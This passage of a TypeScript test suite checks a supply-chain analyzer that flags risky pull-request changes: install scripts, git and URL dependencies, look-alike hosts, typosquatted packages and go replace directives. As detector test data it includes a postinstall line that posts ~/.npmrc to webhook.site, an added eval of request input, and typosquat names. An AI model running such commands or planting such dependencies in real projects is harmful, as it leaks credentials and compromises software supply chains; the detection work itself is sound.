    id: 'docker-unpinned-image',
    positive: () => snapshotOf(change('docker/app.Dockerfile', null, 'FROM python:3.12-slim\nRUN pip install .\n')),
    negative: () =>
      snapshotOf(change('docker/app.Dockerfile', null, `FROM python:3.12-slim@sha256:${'b'.repeat(64)} AS build\nRUN pip wheel .\nFROM build\nFROM scratch\nCOPY --from=build /w /w\n`)),
  },
];

function reviewChange(changeType: 'added' | 'removed', vulnerabilities: SnapshotDependencyChange['vulnerabilities']): SnapshotDependencyChange {
  return {
    changeType,
    manifest: 'package-lock.json',
    ecosystem: 'npm',
    name: 'lodash',
    version: '4.17.15',
    packageUrl: 'pkg:npm/lodash@4.17.15',
    license: 'MIT',
    scope: 'runtime',
    vulnerabilities,
  };
}

describe('analyzeSupplyChain findings', () => {
  for (const c of CASES) {
    it(`reports ${c.id} when the PR introduces it`, () => {
      expect(ids(c.positive())).toContain(c.id);
    });
    it(`does not report ${c.id} otherwise`, () => {
      expect(ids(c.negative())).not.toContain(c.id);
    });
  }

  it('has a case for every finding id documented in docs/findings.md', async () => {
    const { readFile } = await import('node:fs/promises');
    const doc = await readFile(new URL('../../docs/findings.md', import.meta.url), 'utf8');
    // The repository-configuration findings have their cases in test/repo-config/config-change.test.ts.
    // The "Registry facts" findings have their cases in test/analyzers/registry-facts.test.ts (they need registry facts in the snapshot).
    const registryIds = [...doc.matchAll(/^### `(registry-[a-z-]+)`/gm)].map((m) => m[1] ?? '');
    // The "AI coding agents" findings have their cases in test/ecosystems/ai-agents/ai-agents.test.ts.
    const agentIds = [...(doc.split('\n## AI coding agents\n')[1]?.split('\n## ')[0] ?? '').matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1] ?? '');
    const testedElsewhere = ['config-changed', 'config-invalid', 'config-weakened', ...documentedWorkflowIds, ...onlineWorkflowIds, ...registryIds, ...agentIds];
    // The "Code changes" section has its cases in test/ecosystems/code/scan-code-changes.test.ts.
    const documented = [...(doc.split('\n# Code changes\n')[0] ?? '').matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).filter((id) => !testedElsewhere.includes(id ?? '')).sort();
    expect(documented).toEqual(CASES.map((c) => c.id).sort());
  });
});

describe('python-setup-script weighed against the base', () => {
  const base = lines('from setuptools import setup', 'from setuptools.command.install import install', '', 'class Post(install):', '    pass', '', "setup(name='x', cmdclass={'install': Post, 'test': PyTest})", '');
  it('reports nothing when a formatter requotes and rewraps setup.py and lines move above the override class', () => {
    const black = lines('from setuptools import setup', 'from setuptools.command.install import install', '', '', 'class Post(install):', '    pass', '', '', 'setup(', '    name="x",', '    cmdclass={', '        "install": Post,', '        "test": PyTest,', '    },', ')', '');
    expect(ids(snapshotOf(change('setup.py', base, black)))).not.toContain('python-setup-script');
  });
  it('reports a command class the PR adds, at its line', () => {
    const added = base.replace("'test': PyTest}", "'test': PyTest, 'build_py': Fetch}");
    const found = analyze(snapshotOf(change('setup.py', base, added))).findings.filter((f) => f.id === 'python-setup-script');
    expect(found.map((f) => [f.severity, f.line])).toEqual([['high', 7]]);
  });
  it('reports an override class the PR adds, at its line', () => {
    const before = lines('from setuptools import setup', "setup(name='x')", '');
    const found = analyze(snapshotOf(change('setup.py', before, base))).findings.filter((f) => f.id === 'python-setup-script').map((f) => [f.title, f.line]);
    expect(found).toEqual([
      ['New install script "install override" in setup.py', 4],
      ['New install script "cmdclass" in setup.py', 7],
    ]);
  });
});

describe('install scripts of projects under a test or fixture folder', () => {
  const override = lines('from setuptools import setup', 'from setuptools.command.build_ext import build_ext', '', 'class CMakeBuild(build_ext):', '    def run(self):', "        subprocess.check_call(['cmake', '--version'])", '', "setup(name='cmake-pkg', cmdclass={'build_ext': CMakeBuild})", '');
  const found = (path: string, head: string) => analyze(snapshotOf(change(path, null, head))).findings.filter((f) => f.id === 'python-setup-script' || f.id === 'npm-install-script').map((f) => f.severity);
  it("are low: they run when a test installs the project, as the tests' own code runs (a package installer's test data rated high)", () => {
    expect(found('tests/data/src/python-cmake-issue/setup.py', override)).toEqual(['low', 'low']);
    expect(found('test/fixtures/lifecycle/package.json', pkg({ scripts: { postinstall: 'node ./write-marker.js' } }))).toEqual(['low']);
    const detail = analyze(snapshotOf(change('tests/data/src/python-cmake-issue/setup.py', null, override))).findings.find((f) => f.id === 'python-setup-script')?.detail;
    expect(detail).toContain('when a test installs that project');
  });
  it("stay high at the package's own root or in a folder that is no test's, and critical when the script sends data out, wherever it is", () => {
    expect(found('setup.py', override)).toEqual(['high', 'high']);
    expect(found('packages/testing-utils/package.json', pkg({ scripts: { postinstall: 'node ./setup.js' } }))).toEqual(['high']);
    expect(found('test/fixtures/lifecycle/package.json', pkg({ scripts: { postinstall: 'curl -d @$HOME/.npmrc https://webhook.site/abc' } }))).toEqual(['critical']);
  });
});

describe('git-dependency whose repository the base already used', () => {
  const gitFinding = (before: string, after: string, path = 'package.json') =>
    analyze(snapshotOf(change(path, before, after))).findings.filter((f) => f.id === 'git-dependency').map((f) => [f.severity, f.package]);
  it('is low when only the ref of the same repository moves (a Dependabot bump of a git tag)', () => {
    expect(gitFinding(pkg({ devDependencies: { 'uws.js': 'socketworks/uws.js#v20.67.0' } }), pkg({ devDependencies: { 'uws.js': 'socketworks/uws.js#v20.68.0' } }))).toEqual([['low', 'uws.js']]);
    expect(gitFinding(pkg({ dependencies: { mine: 'git+https://github.com/Someone/mine.git#v1.2.0' } }), pkg({ dependencies: { mine: 'github:someone/mine#v1.3.0' } }))).toEqual([['low', 'mine']]);
    expect(gitFinding('flask==3.0.0\ntool @ git+https://github.com/acme/tool.git@v1.0\n', 'flask==3.0.0\ntool @ git+https://github.com/acme/tool.git@v1.1\n', 'requirements.txt')).toEqual([['low', 'tool']]);
  });
  it('keeps medium for a git source that is new, another repository (a fork), or a registry package moved to git', () => {
    expect(gitFinding(pkg({ dependencies: { mine: 'someone/mine#v1.2.0' } }), pkg({ dependencies: { mine: 'someone-else/mine#v1.2.0' } }))).toEqual([['medium', 'mine']]);
    expect(gitFinding(pkg({ dependencies: { mine: '^1.2.0' } }), pkg({ dependencies: { mine: 'someone/mine#v1.3.0' } }))).toEqual([['medium', 'mine']]);
    expect(gitFinding(pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'someone/mine#v1.3.0' } }))).toEqual([['medium', 'mine']]);
    expect(gitFinding(pkg({ dependencies: { mine: 'someone/mine#v1.2.0' } }), pkg({ dependencies: { mine: 'git+http://github.com/someone/mine.git#v1.3.0' } }))).toEqual([['high', 'mine']]);
  });
});

describe('composer-repository-override of an inline package the base already took from the same origin (calib57)', () => {
  const composer = (url: string, name = 'github/gfm') =>
    `${JSON.stringify({ name: 'league/markdown', 'require-dev': { [name]: '0.29.0' }, repositories: [{ type: 'package', package: { name, version: '0.29.0', dist: { url, type: 'zip' } } }] }, null, 2)}\n`;
  const overrides = (before: string, after: string) => analyze(snapshotOf(change('composer.json', before, after))).findings.filter((f) => f.id === 'composer-repository-override').map((f) => f.severity);
  it("is quiet when only the release of the same repository's archive moves (a CommonMark parser's 'Bump gfm spec to 0.29.0.gfm.9')", () => {
    expect(overrides(composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.0.zip'), composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.9.zip'))).toEqual([]);
    expect(overrides(composer('https://files.acme.dev/specs/gfm-0.29.0.zip'), composer('https://files.acme.dev/specs/gfm-0.30.0.zip'))).toEqual([]);
  });
  it('keeps reporting the archive of another account, another host, plain http, or another package from the same place', () => {
    expect(overrides(composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.0.zip'), composer('https://github.com/githubb/cmark-gfm/archive/0.29.0.gfm.9.zip'))).toEqual(['medium']);
    expect(overrides(composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.0.zip'), composer('https://gitlab.com/github/cmark-gfm/archive/0.29.0.gfm.9.zip'))).toEqual(['medium']);
    expect(overrides(composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.0.zip'), composer('http://github.com/github/cmark-gfm/archive/0.29.0.gfm.9.zip'))).toEqual(['high']);
    expect(overrides(composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.0.zip'), composer('https://github.com/github/cmark-gfm/archive/0.29.0.gfm.9.zip', 'github/cmark'))).toEqual(['medium']);
    expect(overrides(composer('https://files.acme.dev/specs/gfm-0.29.0.zip'), composer('https://files.acme.dev/other/gfm-0.30.0.zip'))).toEqual(['medium']);
  });
});

describe("git-dependency on a repository of the PR's own owner (calib22)", () => {
  const gitFinding = (before: string, after: string, path = 'pyproject.toml') =>
    analyze(snapshotOf(change(path, before, after))).findings.filter((f) => f.id === 'git-dependency').map((f) => [f.severity, f.package]);
  const project = (core: string) => `[project]\nname = "builder"\nversion = "2.5.0.dev0"\ndependencies = [\n    "${core}",\n    "packaging>=24.0",\n]\n`;
  it('is low at the default branch, a branch or a tag of a repository the owner (acme) has on GitHub: a sibling project between releases', () => {
    // Modeled on a packaging tool that builds against its core library's main branch between releases.
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+https://github.com/acme/builder-core.git'))).toEqual([['low', 'builder-core']]);
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+https://github.com/ACME/builder-core.git@main'))).toEqual([['low', 'builder-core']]);
    expect(gitFinding(pkg({ dependencies: { core: '^1.2.0' } }), pkg({ dependencies: { core: 'github:acme/core#v1.3.0-rc.1' } }), 'package.json')).toEqual([['low', 'core']]);
  });
  it('keeps medium at a commit (a fork network serves its commits under the parent), for another owner, another host, and high over plain http', () => {
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+https://github.com/acme/builder-core.git@0f4b2c1d9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c'))).toEqual([['medium', 'builder-core']]);
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+https://github.com/acme-dev/builder-core.git'))).toEqual([['medium', 'builder-core']]);
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+https://gitlab.com/acme/builder-core.git'))).toEqual([['medium', 'builder-core']]);
    expect(gitFinding(project('builder-core (==2.4.0)'), project('builder-core @ git+http://github.com/acme/builder-core.git'))).toEqual([['high', 'builder-core']]);
  });
});

describe('git-dependency and url-dependency in a project of the test suite (calib42)', () => {
  const sourceFindings = (path: string, before: string | null, after: string) =>
    analyze(snapshotOf(change(path, before, after))).findings.filter((f) => f.id === 'git-dependency' || f.id === 'url-dependency').map((f) => [f.id, f.severity, f.package]);
  // Modeled on a packaging library whose tests parse sample projects that take packages from git.
  const sample = (extra: string) => `[tool.poetry]\nname = "sample"\nversion = "1.0.0"\n\n[tool.poetry.dependencies]\npython = "^3.8"\n${extra}`;
  it('is low in a fixture manifest or lockfile under a test folder: only the tests read or install it, in CI', () => {
    expect(sourceFindings('tests/fixtures/sample_project_with_groups/pyproject.toml', null, sample('pendulum = { git = "https://github.com/someone/pendulum.git", branch = "2.0" }\n'))).toEqual([['git-dependency', 'low', 'pendulum']]);
    expect(sourceFindings('test/fixtures/app/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'someone/mine#v1.3.0', tar: 'https://example.com/tar-1.0.0.tgz' } }))).toEqual([
      ['git-dependency', 'low', 'mine'],
      ['url-dependency', 'low', 'tar'],
    ]);
    const locked = (path: string) =>
      analyze(snapshotOf(change(path, npmLock([], {}), npmLock([], { mine: { version: '1.3.0', resolved: 'git+ssh://git@github.com/someone/mine.git#0f4b2c1d9e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c' } }))))
        .findings.filter((f) => f.id === 'git-dependency')
        .map((f) => [f.severity, f.package]);
    expect(locked('test/fixtures/app/package-lock.json')).toEqual([['low', 'mine']]);
    expect(locked('package-lock.json')).toEqual([['medium', 'mine']]);
    const detail = analyze(snapshotOf(change('tests/fixtures/sample/pyproject.toml', null, sample('pendulum = { git = "https://github.com/someone/pendulum.git" }\n')))).findings.find((f) => f.id === 'git-dependency')?.detail;
    expect(detail).toContain('a project of the test suite');
  });
  it("stays medium in the package's own manifest or a folder that is no test's, and high for plain http or a look-alike host in a fixture too", () => {
    expect(sourceFindings('pyproject.toml', sample(''), sample('pendulum = { git = "https://github.com/someone/pendulum.git" }\n'))).toEqual([['git-dependency', 'medium', 'pendulum']]);
    expect(sourceFindings('packages/testing-utils/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'someone/mine#v1.3.0' } }))).toEqual([['git-dependency', 'medium', 'mine']]);
    expect(sourceFindings('test/fixtures/app/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'git+http://github.com/someone/mine.git#v1.3.0' } }))).toEqual([['git-dependency', 'high', 'mine']]);
    expect(sourceFindings('test/fixtures/app/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'git+https://githubb.com/someone/mine.git#v1.3.0' } }))).toEqual([['git-dependency', 'high', 'mine']]);
  });
});

describe('unbounded-version in a project of the test suite (calib42)', () => {
  const unbounded = (path: string) =>
    analyze(snapshotOf(change(path, pkg({ dependencies: {} }), pkg({ dependencies: { left: '*' }, devDependencies: { right: 'latest' } }))))
      .findings.filter((f) => f.id === 'unbounded-version')
      .map((f) => [f.severity, f.package]);
  it('is info under a test or fixture folder: no user installs the project, only its tests do', () => {
    expect(unbounded('test/fixtures/app/package.json')).toEqual([
      ['info', 'left'],
      ['info', 'right'],
    ]);
  });
  it("keeps its severity in the package's own manifest and in a folder that is no test's", () => {
    expect(unbounded('package.json')).toEqual([
      ['medium', 'left'],
      ['low', 'right'],
    ]);
    expect(unbounded('packages/testing-utils/package.json')).toEqual([
      ['medium', 'left'],
      ['low', 'right'],
    ]);
  });
});

describe('a file only its generated-file header marks (calib47)', () => {
  it("is still read as code: an eval the PR adds to it is reported", () => {
    const patch = lines('@@ -1,4 +1,5 @@', ' // This file is autogenerated by build/build-error-serializer.js, do not edit', " 'use strict'", ' module.exports = function (req) {', '+  eval(req.query.code)', '   return 1');
    const snapshot = makeSnapshot({ files: [makeFile('lib/error-serializer.js', { status: 'modified', patch })] });
    expect(ids(snapshot)).toContain('dynamic-code-execution');
  });
});

describe('a workflow whose base could not be read (a YAML error the PR fixes)', () => {
  const workflow = (matrix: string, extra = '') => `name: tests\non: [push, pull_request]\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        php: ${matrix}\n    steps:\n      - uses: actions/checkout@v4\n      - uses: shivammathur/setup-php@v2\n        with:\n          php-version: \${{ matrix.php }}\n${extra}`;
  const broken = workflow("['8.0', '8.1]");
  const fixed = workflow("['8.0', '8.1']");

  it('carries the findings on lines the base already had (phpdotenv "Fixed typo")', () => {
    const found = analyze(snapshotOf(change('.github/workflows/tests.yml', broken, fixed))).findings;
    expect(found.filter((f) => f.id === 'gha-unpinned-action')).toEqual([]);
  });

  it('still reports what the PR adds to it', () => {
    const added = workflow("['8.0', '8.1']", '      - uses: nick-fields/retry@v3\n        with:\n          command: composer test\n');
    const found = analyze(snapshotOf(change('.github/workflows/tests.yml', broken, added))).findings.filter((f) => f.id === 'gha-unpinned-action');
    expect(found.map((f) => [f.severity, f.package])).toEqual([['medium', 'nick-fields/retry']]);
  });
});

describe('go-replace to a directory of the same repository', () => {
  const replaceFinding = (path: string, replace: string) =>
    analyze(snapshotOf(change(path, 'module example.com/app/docs\n\ngo 1.22\n\nrequire example.com/app v1.2.0\n', `module example.com/app/docs\n\ngo 1.22\n\nreplace ${replace}\n\nrequire example.com/app v1.2.0\n`)))
      .findings.filter((f) => f.id === 'go-replace')
      .map((f) => f.severity);
  it('is low for a local path that stays inside the repository (a docs module built against the code beside it)', () => {
    expect(replaceFinding('docs/go.mod', 'example.com/app => ../')).toEqual(['low']);
    expect(replaceFinding('go.mod', 'example.com/app/tools => ./internal/tools')).toEqual(['low']);
  });
  it('is high for the same repository under an account spelled like its owner (one edit, two for long names, or confusable letters)', () => {
    expect(replaceFinding('go.mod', 'github.com/gin-gonic/gin => github.com/gin-gonlc/gin v1.10.1')).toEqual(['high']);
    expect(replaceFinding('go.mod', 'github.com/hashicorp/vault => github.com/hashlcorp/vault v1.15.0')).toEqual(['high']);
    expect(replaceFinding('go.mod', 'github.com/sirupsen/logrus => github.com/slrupsen/logrus v1.9.3')).toEqual(['high']);
    expect(replaceFinding('go.mod', 'github.com/spf13/cobra => github.com/spf13-/cobra v1.8.1')).toEqual(['high']);
    expect(replaceFinding('go.mod', 'github.com/modern-go/reflect2 => github.com/rnodern-go/reflect2 v1.0.2')).toEqual(['high']);
  });
  it("keeps medium for a fork under another account, the owner's name in another case, another repository name, or a short owner", () => {
    expect(replaceFinding('go.mod', 'github.com/Sirupsen/logrus => github.com/sirupsen/logrus v1.9.3')).toEqual(['medium']);
    expect(replaceFinding('go.mod', 'github.com/gin-gonic/gin => github.com/acme/gin v1.10.1')).toEqual(['medium']);
    expect(replaceFinding('go.mod', 'github.com/satori/go.uuid => github.com/gofrs/uuid v4.4.0+incompatible')).toEqual(['medium']);
    expect(replaceFinding('go.mod', 'github.com/pkg/errors => github.com/pkgz/errors v0.9.2')).toEqual(['medium']);
    expect(replaceFinding('go.mod', 'github.com/gin-gonic/gin => github.com/gin-gonic/gln v1.10.1')).toEqual(['medium']);
  });
  it('keeps medium for a fork, an absolute path or a path that climbs out of the repository', () => {
    expect(replaceFinding('docs/go.mod', 'example.com/app => github.com/someone/app v1.2.1')).toEqual(['medium']);
    expect(replaceFinding('docs/go.mod', 'example.com/app => /home/dev/app')).toEqual(['medium']);
    expect(replaceFinding('docs/go.mod', 'example.com/app => ../../app')).toEqual(['medium']);
    expect(replaceFinding('go.mod', 'example.com/app => ../app')).toEqual(['medium']);
  });
});

describe('go-replace in a workspace file (go.work)', () => {
  const workFindings = (base: string, head: string) => analyze(snapshotOf(change('go.work', base, head))).findings.filter((f) => f.id === 'go-replace').map((f) => [f.severity, f.line, f.package]);
  it('reports a replace the PR adds to go.work, as in go.mod', () => {
    // The same repository under an account spelled like gorilla: a look-alike fork, high (as in go.mod).
    expect(workFindings('go 1.22\n\nuse .\n', 'go 1.22\n\nuse .\n\nreplace github.com/gorilla/mux => github.com/gorrilla/mux v1.8.2\n')).toEqual([['high', 5, 'github.com/gorilla/mux']]);
    expect(workFindings('go 1.22\n\nuse .\n', 'go 1.22\n\nuse .\n\nreplace github.com/gorilla/mux => github.com/acme-forks/mux v1.8.2\n')).toEqual([['medium', 5, 'github.com/gorilla/mux']]);
    expect(workFindings('go 1.22\n\nuse (\n\t.\n\t./tools\n)\n', 'go 1.22\n\nuse (\n\t.\n\t./tools\n)\n\nreplace example.com/app/tools => ./tools\n')).toEqual([['low', 8, 'example.com/app/tools']]);
  });
  it('is quiet on a module added to the workspace, and on a replace the base had', () => {
    expect(workFindings('go 1.22\n\nuse .\n', 'go 1.22\n\nuse (\n\t.\n\t./tools\n)\n')).toEqual([]);
    const replaced = 'go 1.22\n\nuse .\n\nreplace github.com/gorilla/mux => ../mux\n';
    expect(workFindings(replaced, `${replaced}// workspace for local development\n`)).toEqual([]);
  });
});

describe('Cargo [patch] and [replace] entries that take a crate from outside crates.io', () => {
  const manifest = (extra: string) => `[package]\nname = "fast"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0"\n${extra}`;
  const sources = (head: string) => analyze(snapshotOf(change('Cargo.toml', manifest(''), head))).findings.filter((f) => ['git-dependency', 'url-dependency', 'path-dependency'].includes(f.id)).map((f) => [f.id, f.severity, f.package]);
  it('reports a patch or replace that points a crate at a git repository (a fork)', () => {
    expect(sources(manifest('\n[patch.crates-io]\nserde = { git = "https://github.com/serde-rs1/serde" }\n'))).toEqual([['git-dependency', 'medium', 'serde']]);
    expect(sources(manifest('\n[replace]\n"serde:1.0.200" = { git = "https://github.com/serde-rs1/serde", rev = "a1b2c3d" }\n'))).toEqual([['git-dependency', 'medium', 'serde']]);
  });
  it('a patch to a crate of the same workspace is a path dependency (info: the path stays inside the repository); nothing when the base had the patch', () => {
    expect(sources(manifest('\n[patch.crates-io]\nserde = { path = "vendor/serde" }\n'))).toEqual([['path-dependency', 'info', 'serde']]);
    const patched = manifest('\n[patch.crates-io]\nserde = { git = "https://github.com/serde-rs/serde", rev = "a1b2c3d" }\n');
    expect(analyze(snapshotOf(change('Cargo.toml', patched, `${patched}# keep the patch until 1.0.201\n`))).findings.filter((f) => f.id === 'git-dependency')).toEqual([]);
  });
});

describe('overrides and resolutions that take a package from outside the registry', () => {
  const base = pkg({ dependencies: { express: '^5.1.0' } });
  const withOverrides = (extra: Record<string, unknown>) => `${JSON.stringify({ ...JSON.parse(base), ...extra }, null, 2)}\n`;
  it("reports npm's overrides (nested), Yarn's resolutions and pnpm's overrides that point at git or a URL", () => {
    const section = analyze(
      snapshotOf(
        change('package.json', base, withOverrides({ overrides: { express: { 'path-to-regexp': 'github:pathto-regexp/path-to-regexp#main' } } })),
        change('web/package.json', base, withOverrides({ resolutions: { '**/debug': 'http://cdn.example.net/debug-4.4.0.tgz' } })),
        change('api/package.json', base, withOverrides({ pnpm: { overrides: { 'qs@<6.14': 'git+https://gitlab.com/someone/qs.git#v6.14.0' } } })),
      ),
    );
    const found = section.findings.filter((f) => f.id.endsWith('-dependency')).map((f) => [f.id, f.severity, f.path, f.package, f.line]);
    expect(found.sort((a, b) => String(a[2]).localeCompare(String(b[2])))).toEqual([
      ['git-dependency', 'medium', 'api/package.json', 'qs', 9],
      ['git-dependency', 'medium', 'package.json', 'path-to-regexp', 9],
      ['url-dependency', 'high', 'web/package.json', 'debug', 8],
    ]);
  });
  it('rates an npm URL dependency high when the URL names no package file on a host that is not a code host (PhantomRaven), medium for a tarball', () => {
    const deps = (dependencies: Record<string, string>) => `${JSON.stringify({ name: 'app', version: '1.0.0', dependencies }, null, 2)}\n`;
    const found = (dependencies: Record<string, string>) =>
      analyze(snapshotOf(change('package.json', deps({ lodash: '^4.17.21' }), deps({ lodash: '^4.17.21', ...dependencies }))))
        .findings.filter((f) => f.id === 'url-dependency')
        .map((f) => `${f.package} ${f.severity}`);
    expect(found({ 'unused-imports': 'https://packages.storeartifact.com/npm/unused-imports' })).toEqual(['unused-imports high']);
    expect(found({ 'ui-kit': 'https://cdn.ui-kit-assets.dev/latest?pkg=ui-kit' })).toEqual(['ui-kit high']);
    expect(found({ xlsx: 'https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz' })).toEqual(['xlsx medium']);
    expect(found({ fixed: 'https://pkg.pr.new/someone/fixed@4821' })).toEqual(['fixed medium']);
    expect(found({ tool: 'https://codeload.github.com/someone/tool/tar.gz/main' })).toEqual(['tool medium']);
  });
  it('rates a URL or git dependency high when its host is spelled like a registry or GitHub without being it, and leaves their own hosts as they were', () => {
    const deps = (dependencies: Record<string, string>) => `${JSON.stringify({ name: 'app', version: '1.0.0', dependencies }, null, 2)}\n`;
    const npm = (spec: string) =>
      analyze(snapshotOf(change('package.json', deps({ lodash: '^4.17.21' }), deps({ lodash: '^4.17.21', 'left-pad': spec }))))
        .findings.filter((f) => f.id.endsWith('-dependency'))
        .map((f) => `${f.id} ${f.severity}`);
    expect(npm('https://cdn.jsdelivr-static.net/npm/left-pad@1.3.0/left-pad-1.3.0.tgz')).toEqual(['url-dependency high']);
    expect(npm('https://registry.npmjs-cdn.org/left-pad/-/left-pad-1.3.0.tgz')).toEqual(['url-dependency high']);
    expect(npm('git+https://githubb.com/left-pad/left-pad.git#v1.3.0')).toEqual(['git-dependency high']);
    expect(npm('https://raw.githubusercontent-cdn.com/left-pad/left-pad/v1.3.0/left-pad-1.3.0.tgz')).toEqual(['url-dependency high']);
    // The hosts themselves and their owners' other domains: as before.
    expect(npm('https://cdn.jsdelivr.net/npm/left-pad@1.3.0/left-pad-1.3.0.tgz')).toEqual(['url-dependency medium']);
    expect(npm('git+https://github.com/left-pad/left-pad.git#v1.3.0')).toEqual(['git-dependency medium']);
    expect(npm('https://left-pad.github.io/releases/left-pad-1.3.0.tgz')).toEqual(['url-dependency medium']);
    expect(npm('git+https://gitlab.com/left-pad/left-pad.git#v1.3.0')).toEqual(['git-dependency medium']);
    expect(npm('git+https://gitee.com/left-pad/left-pad.git#v1.3.0')).toEqual(['git-dependency medium']);
    expect(npm('https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz')).toEqual(['url-dependency medium']);
    const pip = (line: string) =>
      analyze(snapshotOf(change('requirements.txt', 'requests==2.32.3\n', `requests==2.32.3\n${line}\n`)))
        .findings.filter((f) => f.id.endsWith('-dependency'))
        .map((f) => `${f.id} ${f.severity}`);
    expect(pip('colorama @ https://files.pythonhosted-cdn.org/packages/colorama-0.4.6-py2.py3-none-any.whl')).toEqual(['url-dependency high']);
    expect(pip('colorama @ https://files.pythonhosted.org/packages/colorama-0.4.6-py2.py3-none-any.whl')).toEqual(['url-dependency medium']);
    expect(pip('pypy-tools @ https://downloads.pypy.org/tools/pypy-tools-1.0.tar.gz')).toEqual(['url-dependency medium']);
  });
  it("reads an override that points a package at another one through an npm alias as that package (pnpm.overrides, npm's overrides, Yarn's resolutions): a look-alike is a typosquat", () => {
    const squats = (extra: Record<string, unknown>) =>
      analyze(snapshotOf(change('package.json', base, withOverrides(extra))))
        .findings.filter((f) => f.id === 'typosquat')
        .map((f) => [f.package, f.severity]);
    expect(squats({ pnpm: { overrides: { lodash: 'npm:lodahs@^4.17.21' } } })).toEqual([['lodahs', 'high']]);
    expect(squats({ overrides: { express: { 'path-to-regexp': 'npm:path-to-regexpp@0.1.12' } } })).toEqual([['path-to-regexpp', 'high']]);
    expect(squats({ resolutions: { '**/debug': 'npm:debugg@4.4.0' } })).toEqual([['debugg', 'high']]);
    // An alias to a popular package, to the same package, or a registry version: nothing.
    expect(squats({ pnpm: { overrides: { 'string-width-cjs': 'npm:string-width@^4.2.0', lodash: 'npm:lodash@4.17.21', qs: '6.14.0' } } })).toEqual([]);
    // One the base already had: nothing.
    const aliased = withOverrides({ pnpm: { overrides: { lodash: 'npm:lodahs@^4.17.21' } } });
    expect(analyze(snapshotOf(change('package.json', aliased, aliased.replace('"^5.1.0"', '"^5.2.0"')))).findings.filter((f) => f.id === 'typosquat')).toEqual([]);
  });
  it('reads at most 2,000 override entries and reports at most 20 of a file', () => {
    const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`pkg-${i}`, `github:someone/pkg-${i}#main`]));
    const section = analyze(snapshotOf(change('package.json', base, withOverrides({ overrides: many }))));
    expect(section.findings.filter((f) => f.id === 'git-dependency').length).toBeLessThanOrEqual(20);
    expect(section.findings.filter((f) => f.id === 'git-dependency').length).toBeGreaterThan(0);
  });
  it('stays quiet on overrides of registry versions, local patches and paths, and on one the base already had', () => {
    const gitOverride = withOverrides({ overrides: { 'path-to-regexp': 'github:pathto-regexp/path-to-regexp#main' } });
    const section = analyze(
      snapshotOf(
        change('package.json', base, withOverrides({ overrides: { 'path-to-regexp': '0.1.12', express: { '.': '5.1.0', qs: '$qs' } }, resolutions: { 'lodash': 'patch:lodash@npm%3A4.17.21#~/.yarn/patches/lodash.patch' } })),
        change('web/package.json', base, withOverrides({ pnpm: { overrides: { 'left-pad': 'link:../vendor/left-pad', semver: 'npm:@acme/semver@7.6.3' } } })),
        change('api/package.json', gitOverride, `${gitOverride.trimEnd()}\n`.replace('"^5.1.0"', '"^5.2.0"')),
      ),
    );
    expect(section.findings.filter((f) => f.id.endsWith('-dependency'))).toEqual([]);
  });
});

describe('path-dependency inside the repository', () => {
  const severities = (snapshot: PrSnapshot): string[] => analyze(snapshot).findings.filter((f) => f.id === 'path-dependency').map((f) => `${f.package ?? ''}:${f.severity}`);
  const crate = (deps: string) => `[package]\nname = "fuzz"\n\n[dependencies]\nlibfuzzer-sys = "0.4"\n${deps}`;

  it('is info when the path stays inside the repository (the crate beside it, the project itself), low when it climbs out or is absolute', () => {
    expect(severities(snapshotOf(change('fuzz/Cargo.toml', null, crate('serde_json = { path = ".." }\n'))))).toEqual(['serde_json:info']);
    expect(severities(snapshotOf(change('tools/requirements.txt', null, '-e ../libs/relay\npytest==8.4.1\n')))).toEqual(['relay:info']);
    expect(severities(snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { ui: 'file:./packages/ui' } }))))).toEqual(['ui:info']);
    expect(severities(snapshotOf(change('fuzz/Cargo.toml', null, crate('helper = { path = "../../outside" }\n'))))).toEqual(['helper:low']);
    expect(severities(snapshotOf(change('Cargo.toml', crate(''), crate('helper = { path = "/opt/src/helper" }\n'))))).toEqual(['helper:low']);
    expect(severities(snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { ui: 'file:../sibling-checkout/ui' } }))))).toEqual(['ui:low']);
  });
  it('is not reported when a release only moves the version a path dependency also names (calib30); a new path still is', () => {
    // Modeled on a Cargo workspace whose release bumps the exact version of its member crates.
    const root = (path: string, version: string) => `[package]\nname = "cli"\nversion = "4.6.5"\n\n[dependencies]\ncli_builder = { path = "${path}", version = "=${version}", default-features = false }\n`;
    expect(severities(snapshotOf(change('Cargo.toml', root('./cli_builder', '4.6.2'), root('./cli_builder', '4.6.5'))))).toEqual([]);
    expect(severities(snapshotOf(change('Cargo.toml', root('./cli_builder', '4.6.2'), root('../outside/cli_builder', '4.6.5'))))).toEqual(['cli_builder:low']);
    expect(severities(snapshotOf(change('package.json', pkg({ dependencies: { ui: 'file:./packages/ui' } }), pkg({ dependencies: { ui: 'file:../sibling-checkout/ui' } }))))).toEqual(['ui:low']);
  });
});

describe('analyzeSupplyChain dependencies', () => {
  it('reports manifest changes with resolved versions from the lockfile, and transitive ones against the lockfile', () => {
    const section = analyze(
      snapshotOf(
